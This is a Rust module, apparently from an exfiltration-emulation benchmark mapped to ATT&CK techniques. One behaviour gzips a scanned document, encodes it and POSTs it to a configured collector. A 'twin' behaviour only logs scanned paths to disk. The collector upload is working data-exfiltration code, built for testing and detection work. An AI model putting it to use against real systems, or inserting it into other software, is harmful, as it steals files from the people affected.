//! A document goes to the collector as text, compressed first. ExfilBench C01, C04; ATT&CK T1132.001,
//! T1560.
//!
//! Gzip, then base64, base64url or hexadecimal digits by the seed. The twin compresses its log of the
//! scan in the same way and keeps it on disk.

use std::io::{self, Write as _};
use std::path::Path;

use flate2::Compression;
use flate2::write::GzEncoder;

use super::{Conduct, Loot, Trouble, keep};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::parameters::Encoding;
use crate::scanner::Tally;
use crate::send;

/// Takes a document and encodes it.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let parameters = &self.0.lab.configuration().parameters;
        let text = pack(&self.0.document()?.content, parameters.encoding)?;
        Ok(send::post(&collector, &parameters.path, &[], text.as_bytes())?)
    }
}

/// Keeps an encoded log.
#[derive(Debug)]
struct Twin {
    configuration: Configuration,
    log: Vec<u8>,
}

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin { configuration, log: Vec::new() })
}

impl Conduct for Twin {
    fn met(&mut self, path: &Path, _: &[u8]) {
        self.log.extend(path.as_os_str().as_encoded_bytes());
        self.log.push(b'\n');
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let text = pack(&self.log, self.configuration.parameters.encoding)?;
        Ok(keep(&self.configuration, text.as_bytes())?)
    }
}

fn pack(bytes: &[u8], encoding: Encoding) -> io::Result<String> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::default());
    packer.write_all(bytes)?;
    Ok(encoding.encode(&packer.finish()?))
}
